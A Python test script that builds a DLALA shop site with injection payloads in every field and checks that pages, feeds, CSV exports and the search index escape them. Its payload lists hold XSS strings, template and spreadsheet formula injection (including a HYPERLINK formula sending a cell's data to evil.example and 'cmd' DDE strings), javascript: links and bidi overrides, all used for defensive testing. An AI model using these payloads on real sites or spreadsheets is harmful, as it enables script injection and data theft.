#!/usr/bin/env python3
"""Carries texts that mean harm through everything that the site is: hostile.py DLALA PAGEFIND

Builds this repository's site with one shop for each of PAYLOADS: its product, merchant, variant, delivery
zone, association and event carry the payload in every text field. Then each is looked for, letter by letter,
where the program writes it: JSON-LD, Open Graph, the basket's and the listing's data, the feeds for Google
and Meta, RSS, the calendar, the search index and a spreadsheet, each read by another's reader; in Chromium,
on a phone and on a desk, on the pages, in the basket, its sheet and its messages. There nothing may ask, run,
fetch, add an element or be wider than the window. What may not be carried has to be refused, with file, line,
column and remedy. Everything carried is counted.
"""

import collections
import csv
import gzip
import io
import json
import os
import pathlib
import re
import shutil
import subprocess
import sys
import tempfile
import unicodedata
import urllib.parse

import feedparser
import icalendar
import lxml.etree
import lxml.html
from playwright.sync_api import sync_playwright

import shop
from shop import ROOT, Server, lines_of, query

GOOGLE = "{http://base.google.com/ns/1.0}"
BASE = "http://localhost/"
# Longer addresses are cut by proxies and messengers.
ADDRESS_LIMIT = 16_000
# A message in two languages below a subject: mail programs take longer ones.
MAIL_LIMIT = 24_000

PAYLOADS = {
    "script": "</script><script>alert(1)</script>",
    "picture": "\"><img src=x onerror=alert(2)>",
    "quotes": "'\"\\\"' \\u003cb\\u003e \\n `${alert(3)}`",
    "markup": "]]> <![CDATA[x]]> &amp; &#60;b&#62; <!-- </title></textarea></style>",
    "template": "{{ 7*7 }} {% if x %} {# y #} {title} {0} %s $& $1",
    "formula": "=HYPERLINK(\"https://evil.example/?\"&A1;\"x\")",
    "command": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "quoted": "'=1+1",
    "wide": "\uff1d1+1",
    "query": "a=1&b=2#c?d;e,f\\;g\\,h%00%0D%0A%E2%80%AE+",
    "turned": "abc\u202edef\u2066ghi\u2069\u2069\u2067jkl \u200f!",
    "lines": "one\u2028two\u2029three\u0085four",
    "breaks": "one\nتوصيل: 0\r\nthree\ttab",
    "pairs": "x" + "\U0001d54f" * 400,
    "marks": "Z" + "\u0301\u0310\u0304" * 200,
    "faces": "\U0001d54f \U0001f469\u200d\U0001f469\u200d\U0001f467 e\u0301 \ufdfa",
    "long": "m" * 3_000,
    "طويل": "م" * 1_500,
    "endless": "W" * 400,
}
# No text holds more than 10,000 letters: so many stand in one title, and 100 kB in the text below it, over
# which Chromium computes for half a minute.
ENDLESS = "W" * 9_500
BODY = "م" * 50_000
# What a field may hold at most, by its type.
LIMITS = {"summary": 300, "label": 80, "size": 40, "colour": 40}
# Fields that only some files may break: refused with their place.
REFUSED = {
    "a control": ("products", "title", '"a\\0b"'),
    "a bell": ("products", "care", '"a\\x07b"'),
    "a control of C1": ("products", "origin", '"a\\x9Bb"'),
    "a raw control": ("products", "title", "a\x1bb"),
    "a title of 100 kB": ("products", "title", "x" * 100_000),
    "a summary without end": ("products", "summary", "x" * 50_000),
    "a telephone that is markup": ("merchants", "phone", "'\"><script>'"),
    "a telephone with a query": ("merchants", "phone", "'+970599000001?text=x'"),
    "an address of mail with a header": ("merchants", "email", "'a@b.example?bcc=c@d.example'"),
    "an address that runs": ("merchants", "website", "javascript:alert(1)"),
    "a payment link that runs": ("products", "payment-link", "javascript:alert(1)"),
    "a currency that is markup": ("products", "price", "'1 <b>'"),
    "a GTIN that is markup": ("products", "gtin", "'<script>'"),
}

carried = collections.Counter()
mistakes = []


def plain(text):
    """Without marks of direction; any space or line break is one space. Only what people see is compared."""
    kept = "".join(
        " " if unicodedata.category(c) in ("Zs", "Zl", "Zp") or c in "\n\r\t\x85" else c
        for c in unicodedata.normalize("NFC", text) if unicodedata.category(c) != "Cf")
    return " ".join(kept.split())


def agree(place, name, seen, wanted):
    """The same letters, or their beginning and an ellipsis where a format or the theme bounds a text."""
    seen, wanted = plain(seen or ""), plain(wanted)
    # A no-break space may stand before a French sign.
    bare_seen, bare_wanted = (re.sub(r"[ ’']", "", text) for text in (seen, wanted))
    cut = bare_seen.find("…")
    if bare_seen == bare_wanted or cut > 20 and bare_wanted.startswith(bare_seen[:cut]):
        carried[place] += 1
    else:
        mistakes.append(f"{place}: {name}: {seen[:160]!r}, not {wanted[:160]!r}")


def holds(place, name, condition, seen=""):
    if condition:
        carried[place] += 1
    else:
        mistakes.append(f"{place}: {name}: {str(seen)[:300]}")


class Shop:
    """The records of one payload, and what each of their fields holds."""

    def __init__(self, number, name, payload):
        self.number, self.name = number, name
        self.slug = f"zz-hostile-{number}"

        def text(field):
            mark = f" {field}{number}"
            limit = LIMITS.get(field.split("-")[-1], 10**9) - len(mark)
            # The program itself takes away what turns text around.
            return payload[:limit] + mark

        self.texts = {field: text(field) for field in (
            "title", "summary", "sku", "origin", "dimensions", "care", "synonym", "variant-label", "variant-sku",
            "second-sku", "breakdown-label", "body", "merchant-title", "merchant-summary", "address", "zone-title",
            "zone-summary", "association-title", "association-summary", "project-title", "project-summary",
            "event-title", "event-summary", "venue", "hours", "alt")}
        if name == "endless":
            self.texts["title"] = ENDLESS + self.texts["title"]

    @staticmethod
    def yaml(value):
        """In quotation marks; what is invisible, as an escape."""
        text = json.dumps(value, ensure_ascii=False)
        return "".join(f"\\u{ord(c):04x}" if unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp") else c for c in text)

    def records(self):
        t, s = self.texts, self.slug
        shared = {"slug": s, "date": "2026-11-20"}
        alt = {"ar": t["alt"][:200], "fr": t["alt"][:200]}
        product = {
            "title": t["title"], "summary": t["summary"], "sku": t["sku"], "price": "10 ILS", "merchant": s,
            "materials": ["glass"], "origin": t["origin"], "dimensions": t["dimensions"], "care": t["care"],
            "synonyms": [t["synonym"]], "images": [{"src": "zz-hostile.svg", "alt": alt}],
            "breakdown": [{"part": "maker", "label": t["breakdown-label"], "amount": "10 ILS"}],
        }
        variants = {**product, "title": t["title"] + " v", "slug": s + "-v", "sku": t["second-sku"],
                    "variants": [{"sku": t["variant-sku"], "label": t["variant-label"], "stock": 5}]}
        merchant = {"title": t["merchant-title"], "summary": t["merchant-summary"], "address": t["address"],
                    "phone": "+970599000001", "email": "house@dlala.example"}
        zone = {"title": t["zone-title"], "summary": t["zone-summary"], "price": "5 ILS", "time": "2 days",
                "merchants": [s]}
        association = {
            "title": t["association-title"], "summary": t["association-summary"], "address": t["address"],
            "supports": [s], "projects": [{"title": t["project-title"][-100:], "summary": t["project-summary"]}]}
        # Feeds hold the newest fifty.
        variants["date"] = "2020-01-01"
        event = {"title": t["event-title"], "summary": t["event-summary"], "start": "2026-12-01",
                 "venue": t["venue"], "hours": t["hours"]}
        for folder, name, fields in (
                ("products", s, product), ("products", s + "-v", variants), ("merchants", s, merchant),
                ("delivery", s, zone), ("associations", s, association), ("events", s, event)):
            for code in ("ar", "fr"):
                own = fields if code == "ar" else {
                    key: value for key, value in fields.items()
                    if key in ("title", "summary", "origin", "dimensions", "care", "address", "venue", "hours", "slug")}
                lines = [f"{key}: {self.yaml(value)}" for key, value in {**(shared if code == "ar" else {"slug": s}), **own}.items()]
                yield f"{folder}/{name}.{code}.md", "\n".join(["---", *lines, "---", BODY if self.name == "endless" and name == s and folder == "products" and code == "ar" else "", ""])


def copied(folder):
    """This repository's site, to be added to."""
    source = folder / "source"
    source.mkdir()
    shutil.copytree(ROOT / "content", source / "content")
    (source / "themes").symlink_to(ROOT / "themes")
    shutil.copy(ROOT / "dlala.yaml", source)
    return source


def refused(dlala, folder):
    """Every field that must not be taken, in one run, each with its line, its column and what to do."""
    source = copied(folder)
    for number, (name, (section, field, value)) in enumerate(REFUSED.items()):
        fields = {"title": "x", "slug": f"zz-bad-{number}", "summary": "x"}
        if section == "products":
            fields |= {"sku": f"ZZ-BAD-{number}", "price": "1 ILS", "merchant": "al-zaytuna-soap"}
        fields.pop(field, None)
        lines = [f"{key}: {text}" for key, text in fields.items()]
        path = source / "content" / section / f"zz-bad-{number}.ar.md"
        path.write_text("\n".join(["---", *lines, f"{field}: {value}", "---", ""]))
    run = subprocess.run([dlala, "build", "--source", source, "--output", folder / "none", "--date", "2026-11-24"],
                         capture_output=True, text=True)
    holds("refused", "the build ends with 1 and writes nothing", run.returncode == 1 and not (folder / "none").exists(), run.stderr)
    for number, (name, (section, field, value)) in enumerate(REFUSED.items()):
        told = re.search(rf"content/{section}/zz-bad-{number}\.ar\.md:(\d+):(\d+): error: .+ \[[a-z]+\]\n.*\n *\| *\^+ \S+", run.stderr)
        holds("refused", f"{name}: file, line, column and remedy", told, run.stderr[:2000])
    holds("refused", "what is told has no controls", not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", run.stderr), run.stderr)
    holds("refused", "what is told is short", len(run.stderr) < 20_000, len(run.stderr))
    shutil.rmtree(source)


def built(dlala, pagefind, folder, shops):
    source = copied(folder)
    drawing = '<svg xmlns="http://www.w3.org/2000/svg" width="30" height="20"><path d="M0 0h30v20z"/></svg>'
    (source / "content/products/zz-hostile.svg").write_text(drawing)
    for one in shops:
        for path, text in one.records():
            (source / "content" / path).write_text(text)
    site = folder / "site"
    run = subprocess.run(
        [dlala, "build", "--quiet", "--source", source, "--output", site, "--date", "2026-11-24", "--base-url", BASE],
        capture_output=True, text=True, env=dict(os.environ, DLALA_PAGEFIND=pagefind))
    if run.returncode != 0:
        told = re.findall(r"^.*: error: .*\n.*\n.*", run.stderr, re.M) or [run.stderr]
        sys.exit("hostile: the site is not built\n" + "\n".join(told)[:4000])
    holds("warnings", "only of what turns text around", all(
        "invisible characters that turn text around" in line for line in re.findall(r": warning: .*", run.stderr)
        if "zz-hostile" in line), run.stderr[:1000])
    longest = max(len(part.encode()) for path in site.rglob("*") for part in [path.name])
    holds("files", "no name longer than file systems take", longest <= 255, longest)
    return source, site


SECTIONS = {
    "ar": {"products": "منتجات", "merchants": "تجار", "delivery": "توصيل", "associations": "جمعيات", "events": "مواعيد"},
    "fr": {"products": "produits", "merchants": "marchands", "delivery": "livraison", "associations": "associations", "events": "rendez-vous"},
}


def address(code, section, slug):
    return f"/{code}/{SECTIONS[code][section]}/{slug}/"


def read(site, code, section, slug):
    path = site / address(code, section, slug).strip("/") / "index.html"
    return lxml.html.document_fromstring(path.read_bytes(), parser=lxml.html.HTMLParser(encoding="utf-8"))


def nodes(value):
    """Every object of a JSON-LD document."""
    if isinstance(value, dict):
        yield value
        value = list(value.values())
    if isinstance(value, list):
        for one in value:
            yield from nodes(one)


def structured(page, kind):
    """The object of a type that says most: others only refer to it."""
    known = [node for script in page.xpath("//script[@type='application/ld+json']")
             for node in nodes(json.loads(script.text)) if node.get("@type") == kind]
    return max(known, key=len, default={})


def said(value):
    """The text of a JSON-LD value that may say its language."""
    return value.get("@value") if isinstance(value, dict) else value


def documents(site, shops):
    """What is written in the pages for machines: JSON-LD, Open Graph, data of the basket, order links."""
    for one in shops:
        t = one.texts
        for code in ("ar", "fr"):
            where = f"{one.name}, {code}"
            page = read(site, code, "products", one.slug)
            product = structured(page, "Product")
            agree("JSON-LD", f"{where}: name", said(product.get("name")), t["title"])
            agree("JSON-LD", f"{where}: description", said(product.get("description")), t["summary"])
            agree("JSON-LD", f"{where}: sku", said(product.get("sku")), t["sku"])
            group = structured(read(site, code, "products", one.slug + "-v"), "ProductGroup")
            variant = (group.get("hasVariant") or [{}])[0]
            agree("JSON-LD", f"{where}: variant's sku", said(variant.get("sku")), t["variant-sku"])
            maker = structured(read(site, code, "merchants", one.slug), "LocalBusiness")
            agree("JSON-LD", f"{where}: the merchant's name", said(maker.get("name")), t["merchant-title"])
            holds("JSON-LD", f"{where}: the merchant's address", any(
                re.sub(r"[\s’']", "", plain(said(value))) == re.sub(r"[\s’']", "", plain(t["address"]))
                for node in nodes(maker) for value in node.values() if isinstance(said(value), str)), maker)
            event = structured(read(site, code, "events", one.slug), "Event")
            agree("JSON-LD", f"{where}: the event", said(event.get("name")), t["event-title"])
            friends = structured(read(site, code, "associations", one.slug), "NGO")
            agree("JSON-LD", f"{where}: the association", said(friends.get("name")), t["association-title"])

            tags = {tag.get("property"): tag.get("content") for tag in page.xpath("//meta[@property]")}
            agree("Open Graph", f"{where}: title", tags["og:title"], t["title"])
            agree("Open Graph", f"{where}: description", tags["og:description"], t["summary"])
            agree("head", f"{where}: description", page.xpath("string(//meta[@name='description']/@content)"), t["summary"])
            holds("head", f"{where}: title", re.sub(r"[\s’']", "", plain(t["title"]))[:300] in re.sub(r"[\s’']", "", plain(page.findtext(".//title"))), page.findtext(".//title")[:200])

            island = json.loads(page.xpath("string(//script[@class='product-data'])"))
            agree("the basket's data", f"{where}: sku", island["sku"], t["sku"])
            for name in ("ar", "fr"):
                agree("the basket's data", f"{where}: title {name}", island["title"][name], t["title"])
                agree("the basket's data", f"{where}: merchant {name}", island["merchant"]["name"][name], t["merchant-title"])
            variant_page = read(site, code, "products", one.slug + "-v")
            island = json.loads(variant_page.xpath("string(//script[@class='product-data'])"))
            agree("the basket's data", f"{where}: variant", island["variants"][0]["sku"], t["variant-sku"])
            agree("the basket's data", f"{where}: label", island["variants"][0]["label"][code], t["variant-label"])

            for document, title, sku in ((page, t["title"], t["sku"]), (variant_page, t["title"] + " v – " + t["variant-label"], t["variant-sku"])):
                links = document.xpath("//main//a[starts-with(@href, 'https://wa.me/')]/@href")
                mails = document.xpath("//main//a[starts-with(@href, 'mailto:')]/@href")
                link = links[-1]
                message(f"{where}: direct", link, title, sku, code)
                if mails:
                    mail = mails[0]
                    holds("mail", f"{where}: two parameters", set(urllib.parse.parse_qs(urllib.parse.urlsplit(mail).query)) == {"subject", "body"}, mail[:300])
                    holds("mail", f"{where}: no header of its own", "\n" not in query(mail, "subject"), query(mail, "subject")[:300])
                    holds("mail", f"{where}: of a sane length", len(mail) <= MAIL_LIMIT, len(mail))


def message(where, link, title, sku, code):
    """What WhatsApp shows: the title in a line of its own, nothing turned, no line that was not meant."""
    parts = urllib.parse.urlsplit(link)
    holds("WhatsApp", f"{where}: to the merchant", parts.netloc == "wa.me" and parts.path == "/970599000001" and not parts.fragment, link[:200])
    holds("WhatsApp", f"{where}: one parameter", set(urllib.parse.parse_qs(parts.query, keep_blank_values=True)) == {"text"}, link[:200])
    holds("WhatsApp", f"{where}: of a sane length", len(link) <= ADDRESS_LIMIT, f"{len(link)} characters")
    lines = lines_of(link)
    holds("WhatsApp", f"{where}: no control and no override", not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e]", query(link)), query(link)[:300])
    opened = [len(re.findall("[\u2066-\u2068]", line)) - line.count("\u2069") for line in lines]
    holds("WhatsApp", f"{where}: every isolate is closed on its line", not any(opened), query(link)[:300])
    squeezed = re.sub(r"[\s’']", "", plain(query(link)))
    for name, wanted in (("title", title), ("sku", sku)):
        wanted = re.sub(r"[\s’']", "", plain(wanted))
        holds("WhatsApp", f"{where}: {name}", wanted in squeezed or wanted[:60] in squeezed and "…" in squeezed, squeezed[:400])
    return lines


def feeds(site, shops):
    """The shops' feeds, RSS, listing, calendar, sitemap, as their readers understand them."""
    for code in ("ar", "fr"):
        google = lxml.etree.parse(str(site / f"feeds/google-{code}.xml"))
        by_link = {item.findtext("link"): item for item in google.iter("item")}
        with open(site / f"feeds/meta-{code}.csv", encoding="utf-8", newline="") as text:
            rows = {row["link"]: row for row in csv.DictReader(text, strict=True)}
        holds("Meta", f"{code}: as many as Google", rows.keys() == by_link.keys(), set(rows) ^ set(by_link))
        for row in rows.values():
            holds("Meta", f"{code}: no cell is a formula", not any(
                re.match("[=+@\t\r\uff1d\uff0b\uff0d\uff20]|-(?![\\d.]+$)", cell) for cell in row.values()), row)
        path = site / code / SECTIONS[code]["products"]
        rss = feedparser.parse((path / "feed.xml").read_bytes(), sanitize_html=False, resolve_relative_uris=False)
        holds("RSS", f"{code}: well formed", not rss.bozo, rss.get("bozo_exception"))
        entries = {entry.link: entry for entry in rss.entries}
        # feedparser takes U+0085 for the ellipsis of Windows-1252.
        titles = {item.findtext("link"): item.findtext("title") for item in lxml.etree.parse(str(path / "feed.xml")).iter("item")}
        listing = json.loads((path / "listing.json").read_text())
        records = listing.get("items") or [
            item for number in range(-(-listing["count"] // listing["step"])) for item in json.loads(
                (site / urllib.parse.unquote(f"{listing['pages']}{number + 1}.json").lstrip("/")).read_text())]
        holds("listing.json", f"{code}: all records", len(records) == listing["count"], len(records))
        items = {item[0]: item for item in records}
        calendar = icalendar.Calendar.from_ical((site / code / SECTIONS[code]["events"] / "calendar.ics").read_bytes())
        events = {str(event["URL"]): event for event in calendar.walk("VEVENT")}
        for one in shops:
            t, where = one.texts, f"{one.name}, {code}"
            link = BASE.rstrip("/") + urllib.parse.quote(address(code, "products", one.slug))
            item, row = by_link.get(link), rows.get(link)
            if holds_both(where, item, row):
                agree("Google", f"{where}: title", item.findtext("title"), t["title"])
                agree("Google", f"{where}: description", item.findtext("description"), t["summary"])
                agree("Google", f"{where}: id", item.findtext(GOOGLE + "id"), t["sku"])
                agree("Google", f"{where}: brand", item.findtext(GOOGLE + "brand"), t["merchant-title"])
                agree("Meta", f"{where}: title", unguarded(row["title"]), t["title"])
                agree("Meta", f"{where}: description", unguarded(row["description"]), t["summary"])
                agree("Meta", f"{where}: id", unguarded(row["id"]), t["sku"])
                agree("Meta", f"{where}: brand", unguarded(row["brand"]), t["merchant-title"])
            entry = entries.get(link)
            if entry is None:
                mistakes.append(f"RSS: {where}: the product is not there")
            else:
                agree("RSS", f"{where}: title", titles[link], t["title"])
                holds("RSS", f"{where}: content has no element of the payload", not re.search(
                    r"<(?:script|img[^>]+onerror|b>)", "".join(part.value for part in entry.get("content", []))), entry.get("content"))
            item = items.get(urllib.parse.quote(address(code, "products", one.slug)))
            agree("listing.json", f"{where}: title", item[1], t["title"])
            agree("listing.json", f"{where}: merchant", item[2], t["merchant-title"])
            event = events.get(BASE.rstrip("/") + urllib.parse.quote(address(code, "events", one.slug)))
            agree("iCalendar", f"{where}: summary", str(event["SUMMARY"]), t["event-title"])
            agree("iCalendar", f"{where}: place", str(event["LOCATION"]), t["venue"])
    for path in [site / "sitemap.xml", *site.glob("sitemaps/*.xml")]:
        lxml.etree.parse(str(path))
        carried["sitemap"] += 1


def holds_both(where, item, row):
    holds("Google", f"{where}: there", item is not None)
    holds("Meta", f"{where}: there", row is not None)
    return item is not None and row is not None


def unguarded(cell):
    return cell[1:] if re.match("'+[=+@\uff1d\uff0b\uff0d\uff20-]", cell) else cell


def searched(site, shops):
    """What the search index says of each record, from Pagefind's own files."""
    known = {}
    for path in site.glob("pagefind/fragment/*.pf_fragment"):
        text = gzip.decompress(path.read_bytes())
        fragment = json.loads(text[text.index(b"{"):])
        known[urllib.parse.unquote(fragment["url"])] = fragment["meta"]
    holds("search", "there is an index", known)
    for one in shops:
        for code in ("ar", "fr"):
            for section, title, summary in (("products", "title", "summary"), ("merchants", "merchant-title", "merchant-summary"),
                                            ("associations", "association-title", "association-summary"), ("events", "event-title", "event-summary")):
                meta = next((meta for url, meta in known.items() if url.endswith(address(code, section, one.slug))), None)
                if meta is None:
                    mistakes.append(f"search: {one.name}, {code}: {section} is not there")
                    continue
                agree("search", f"{one.name}, {code}: {title}", meta.get("title"), one.texts[title])
                agree("search", f"{one.name}, {code}: {summary}", meta.get("summary"), one.texts[summary])


def sheets(dlala, source, shops, folder):
    """A spreadsheet takes no text for a formula, and gives back every letter."""
    sheet = folder / "products.csv"
    subprocess.run([dlala, "export", sheet, "--type", "product", "--source", source], check=True, capture_output=True)
    text = sheet.read_text(encoding="utf-8-sig")
    csv.field_size_limit(1 << 30)
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    holds("export", "as many cells in every row", len({len(row) for row in rows}) == 1)
    for row in rows:
        holds("export", "no cell is a formula", not any(
            re.match("[=+@\t\r\uff1d\uff0b\uff0d\uff20]|-(?!\\d+(?:\\.\\d+)?$)", cell) for cell in row), [cell[:40] for cell in row])
    cells = {plain(unguarded(cell)) for row in rows for cell in row}
    for one in shops:
        for field in ("title", "summary", "sku", "origin", "dimensions", "care"):
            holds("export", f"{one.name}: {field}", plain(one.texts[field]) in cells)
    before = {path: path.read_bytes() for path in source.rglob("*.md")}
    run = subprocess.run([dlala, "import", sheet, "--type", "product", "--source", source], capture_output=True, text=True)
    changed = [path.name for path, bytes in before.items() if path.read_bytes() != bytes]
    holds("export", "its import changes nothing", run.returncode == 0 and not changed, (run.stderr[:600], changed))


FOREIGN = """() => [...document.querySelectorAll('*')].filter((one) =>
  [...one.attributes].some((attribute) => /^on/i.test(attribute.name) || /^\\s*javascript:/i.test(attribute.value)) ||
  one.localName === 'script' && !one.src && !/json/.test(one.type) ||
  one.localName === 'img' && !/^\\/(?:media|assets)\\//.test(one.getAttribute('src') ?? '')).map((one) => one.outerHTML.slice(0, 200))"""


WIDEST = """() => [...document.querySelectorAll('main *')].filter((one) => {
  const box = one.getBoundingClientRect(); return box.width && (box.right > innerWidth + 1 || box.left < -1) })
  .slice(0, 4).map((one) => one.outerHTML.slice(0, 80))"""


class Visitor:
    """One page of Chromium, and everything that it must not do."""

    def __init__(self, browser, base):
        self.base, self.wrong = base, []
        self.context = browser.new_context(service_workers="block")
        self.context.clock.set_fixed_time(shop.TODAY)
        self.page = self.context.new_page()
        self.page.set_default_timeout(180_000)
        self.page.add_init_script("window.print = () => { window.printed = (window.printed ?? 0) + 1 }")
        self.page.on("dialog", lambda one: (self.wrong.append("a dialog: " + one.message), one.dismiss()))
        self.page.on("pageerror", lambda one: self.wrong.append(f"an error: {one}"))
        self.page.on("request", lambda one: self.wrong.append("a request: " + one.url[:200])
                     if not one.url.startswith(base + "/") or re.search("/x$", one.url) else None)
        self.page.on("response", lambda one: self.wrong.append(f"{one.status} {one.url[:200]}") if one.status >= 400 else None)

    def go(self, path):
        self.page.goto(self.base + path)

    def still(self, name):
        """Nothing ran, nothing was added, nothing is wider than the window."""
        holds("Chromium", f"{name}: nothing asks, runs or fetches", not self.wrong, self.wrong)
        self.wrong.clear()
        foreign = self.page.evaluate(FOREIGN)
        holds("Chromium", f"{name}: no element of the payload", not foreign, foreign)
        for width in (1280, 360):
            self.page.set_viewport_size({"width": width, "height": 800})
            wide = self.page.evaluate("[document.documentElement.scrollWidth, innerWidth]")
            if wide[0] > wide[1]:
                wide.append(self.page.evaluate(WIDEST))
            holds("Chromium", f"{name}: at {width} no wider than the window", wide[0] <= wide[1], wide)

    def shows(self, name, selector, wanted):
        place = self.page.locator(selector).first
        agree("pages", name, place.text_content() if place.count() else None, wanted)


def pages(visitor, shops):
    for one in shops:
        t = one.texts
        for code in ("ar", "fr"):
            where = f"{one.name}, {code}"
            visitor.go(address(code, "products", one.slug))
            visitor.still(f"{where}: product")
            visitor.shows(f"{where}: title", "article h1", t["title"])
            visitor.shows(f"{where}: summary", "article .lead", t["summary"])
            facts = [plain(text) for text in visitor.page.locator("dl.facts dd").all_text_contents()]
            for field in ("sku", "origin", "dimensions"):
                holds("pages", f"{where}: {field}", plain(t[field]).replace(" ", "") in [fact.replace(" ", "") for fact in facts] or
                      any(fact.endswith("…") for fact in facts), [fact[:80] for fact in facts])
            visitor.shows(f"{where}: merchant", ".maker a", t["merchant-title"])
            visitor.shows(f"{where}: a part of the price", "tr:has(td.price) small, .fair-price td small, .fair-price th small, .fair-price small", t["breakdown-label"])
            holds("pages", f"{where}: the picture's description", re.sub(r"\s", "", plain(t["alt"][:200])) == re.sub(
                r"\s", "", plain(visitor.page.locator(".gallery img").first.get_attribute("alt"))))
            visitor.go(address(code, "products", one.slug + "-v"))
            visitor.still(f"{where}: variants")
            option = visitor.page.locator("option").first
            holds("pages", f"{where}: an option", plain(option.text_content()).replace(" ", "").startswith(plain(t["variant-label"]).replace(" ", "")), option.text_content())
            holds("pages", f"{where}: the option's value", plain(option.get_attribute("value")) == plain(t["variant-sku"]), option.get_attribute("value")[:100])
            # The rest in one language each, by turns.
            others = (("merchants", "merchant-title"), ("associations", "association-title"),
                      ("events", "event-title"), ("delivery", "zone-title"))
            for section, title in others if one.number % 2 == (code == "fr") else ():
                visitor.go(address(code, section, one.slug))
                visitor.still(f"{where}: {section}")
                visitor.shows(f"{where}: {title}", "main h1", t[title])


def listings(visitor, shops):
    """Lists, the home page, and the cards that scripts make."""
    for code in ("ar", "fr"):
        visitor.go(f"/{code}/")
        visitor.still(f"{code}: home")
        for section in SECTIONS[code]:
            visitor.go(address(code, section, "").removesuffix("/"))
            visitor.still(f"{code}: {section}")
        visitor.go(address(code, "products", "").removesuffix("/") + "?materials=glass")
        visitor.page.wait_for_selector(".facets.is-used")
        visitor.page.wait_for_load_state("networkidle")
        more, cards = visitor.page.locator("button.more"), visitor.page.locator("main ul.cards > li")
        while more.is_visible():
            shown = cards.count()
            more.click()
            visitor.page.wait_for_function(
                "shown => document.querySelectorAll('main ul.cards > li').length > shown", arg=shown)
        visitor.still(f"{code}: cards by script")
        titles = [re.sub(r"[\s’']", "", plain(text)) for text in visitor.page.locator("main ul.cards h3").all_text_contents()]
        for one in shops:
            holds("pages", f"{one.name}, {code}: card by script", re.sub(r"[\s’']", "", plain(one.texts["title"])) in titles)


def basket(visitor, shops):
    for one in shops:
        t = one.texts
        for code in ("ar", "fr"):
            where = f"{one.name}, {code}"
            visitor.go(address(code, "products", one.slug))
            visitor.page.evaluate("localStorage.clear()")
            visitor.page.click(".order-form [type=submit]")
            visitor.go(address(code, "products", one.slug + "-v"))
            visitor.page.click(".order-form [type=submit]")
            visitor.go(f"/{code}/basket/")
            visitor.page.wait_for_function("document.documentElement.dataset.confirmed")
            visitor.still(f"{where}: basket")
            sheet = visitor.page.locator(".order-sheet")
            holds("basket", f"{where}: one order of two lines", sheet.count() == 1 and sheet.locator("li[data-sku]").count() == 2)
            link = sheet.locator("a[href^='https://wa.me/']").get_attribute("href")
            message(f"{where}: basket", link, t["title"], t["sku"], code)
            message(f"{where}: basket", link, t["variant-label"], t["variant-sku"], code)
            shown = re.sub(r"[\s’']", "", plain(sheet.text_content()))
            for field in ("title", "sku", "variant-label", "variant-sku"):
                wanted = re.sub(r"[\s’']", "", plain(t[field]))
                holds("sheet", f"{where}: {field}", wanted in shown or wanted[:60] in shown and len(wanted) > 200, shown[:300])
            # The choice of whom it is given to, and a note, are texts too.
            give = sheet.locator("select").last
            value = give.locator("option").evaluate_all("(all, id) => all.find((one) => one.value.endsWith(id))?.value", one.slug)
            give.select_option(value)
            sheet.locator("textarea").fill(t["care"][:500])
            lines = message(f"{where}: given", sheet.locator("a[href^='https://wa.me/']").get_attribute("href"), t["title"], t["sku"], code)
            said = re.sub(r"[\s’']", "", plain("".join(lines)))
            for name, field in (("association", "association-title"), ("note", "care")):
                wanted = re.sub(r"[\s’']", "", plain(t[field][:500]))
                holds("WhatsApp", f"{where}: {name}", wanted in said or wanted[:60] in said and len(wanted) > 200, said[:400])
            visitor.page.emulate_media(media="print")
            visitor.still(f"{where}: printed sheet")
            visitor.page.emulate_media(media="screen")


def main():
    dlala, pagefind = sys.argv[1:3]
    browser_path = next((path for name in shop.BROWSERS if (path := shutil.which(name))), None)
    if browser_path is None:
        sys.exit("hostile: there is no Chromium; on Debian: apt-get install chromium")
    shops = [Shop(number, name, payload) for number, (name, payload) in enumerate(PAYLOADS.items())]
    with tempfile.TemporaryDirectory() as folder:
        folder = pathlib.Path(folder)
        refused(dlala, folder)
        source, site = built(dlala, pagefind, folder, shops)
        documents(site, shops)
        feeds(site, shops)
        searched(site, shops)
        sheets(dlala, source, shops, folder)
        server = Server(site)
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(executable_path=browser_path, args=["--no-sandbox", "--disable-dev-shm-usage"])
            visitor = Visitor(browser, f"http://localhost:{server.port}")
            pages(visitor, shops)
            listings(visitor, shops)
            basket(visitor, shops)
            browser.close()
        server.close()
    for mistake in mistakes[:60]:
        print("hostile: " + mistake)
    places = ", ".join(f"{place} {count}" for place, count in sorted(carried.items()))
    print(f"hostile: {len(PAYLOADS)} texts in {len(shops[0].texts)} fields, {sum(carried.values())} carried ({places}), {len(mistakes)} not")
    return 1 if mistakes else 0


if __name__ == "__main__":
    sys.exit(main())
